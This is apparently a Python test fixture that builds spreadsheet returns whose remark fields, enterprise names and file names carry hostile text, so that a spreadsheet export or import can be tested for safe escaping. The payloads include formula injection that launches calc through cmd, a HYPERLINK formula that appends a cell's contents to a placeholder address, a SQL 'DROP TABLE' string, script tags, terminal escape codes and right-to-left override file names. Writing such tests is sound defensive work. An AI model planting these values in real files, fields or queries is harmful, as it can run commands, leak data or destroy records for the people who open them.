"""Good returns whose texts would become formulas, links, codes or broken XML where they are written carelessly."""

from tests.build.hostile.case import add, of_return
from tests.build.hostile.reworked import row, saying, with_rows
from tests.golden.sound import Sound

_TEXTS: tuple[tuple[str, str, str], ...] = (
    ("formula", "=1+1", "a formula"),
    ("plus", "+1+cmd|' /C calc'!A0", "a formula that begins with +"),
    ("minus", "-2+3+cmd|' /C calc'!A0", "a formula that begins with -"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0", "a formula that begins with @"),
    ("tab", "&#9;=1+1", "a tab before a formula"),
    ("return_first", "&#13;=1+1", "a carriage return before a formula"),
    (
        "hyperlink",
        "=HYPERLINK(&quot;http://example.invalid/?&quot;&amp;A1,&quot;示例&quot;)",
        "a link as a formula",
    ),
    ("braces", "{=1+1}", "an array formula"),
    ("full_width", "＝1+1", "a full-width sign of equality"),
    ("url", "http://example.invalid/示例", "an address that programs turn into a link"),
    ("internal", "internal:'总览'!A1", "a link within the workbook"),
    ("external", "external:\\\\example.invalid\\x.xlsx", "a link to another workbook"),
    ("mail", "mailto:shili@example.com", "a mail address that programs turn into a link"),
    ("ampersand", '&amp;L&amp;"Arial"&amp;99示例&amp;[File]&amp;P', "codes of a header line"),
    ("escape", "_x0001__x001B_[2J_x0000_", "control characters as spreadsheets write them"),
    ("escaped_escape", "_x005F_x0041_", "an escape of an escape"),
    ("lone_surrogate", "示例_xD800__xDFFF_", "lone surrogates"),
    ("noncharacter", "示例_xFFFE__xFFFF_", "numbers that are no characters"),
    ("right_to_left", "示例\u202eexslx.\u202c\u2066x", "a right-to-left override"),
    ("ansi", "_x001B_]0;pwned_x0007__x001B_[31m示例", "commands to a terminal"),
    ("markup", "&lt;/t&gt;&lt;/is&gt;&lt;/c&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "markup"),
    ("entity", "&amp;lt;&amp;#0;&amp;nbsp;", "entities"),
    ("sheet_name", "'[x]*?:/\\'!A1", "what a sheet name may not hold"),
    ("placeholder", "{name}%s{0.__class__}$(id)`id`", "what programs would fill in"),
    ("sql", "'; DROP TABLE events; --", "what a database would run"),
    ("zalgo", "示" + "\u0301\u0316" * 200 + "例", "four hundred marks over one letter"),
    ("emoji", "示例👨‍👩‍👧‍👦🇨🇳\U000e0041\U0010ffff", "characters beyond the first plane"),
    ("line_ends", "示\u2028例\u2029示\x85例", "line ends of other kinds"),
    ("bidi_digits", "١٢٣\u200f456", "digits of another script"),
    ("longest", "示" * 32_767, "32,767 letters"),
)
for _slug, _text, _what in _TEXTS:
    add(
        None,
        _slug,
        "文字.xlsx",
        "collected",
        says=f"A good return with a remark that is {_what}.",
        family="texts",
        of_return=lambda sound, _text=_text: saying(sound, _text),  # type: ignore[misc]
    )


@of_return("名称.xlsx", "collected")
def enterprise_name(sound: Sound) -> bytes:
    """A good return with an enterprise whose name is a formula, a link and a command at once."""
    return saying(sound, "=HYPERLINK(&quot;http://example.invalid&quot;)_x001B_[2J示例有限公司", field="name")


@of_return("两万行.xlsx", "collected")
def twenty_thousand_rows(sound: Sound) -> bytes:
    """A good return with twenty thousand more rows below it."""
    text = "<is><t>=1+1</t></is>"
    return with_rows(
        sound.book(), "".join(row(n, f'<c r="B{n}" t="inlineStr">{text}</c>') for n in range(400, 19_900))
    )


@of_return("正在编辑\u202exslx.xlsx", "collected")
def file_name(sound: Sound) -> bytes:
    """A good return whose file name has a right-to-left override."""
    return sound.book()


@of_return("=cmd|' _C calc'!A0.xlsx", "collected")
def file_name_formula(sound: Sound) -> bytes:
    """A good return whose file name is a formula."""
    return sound.book()
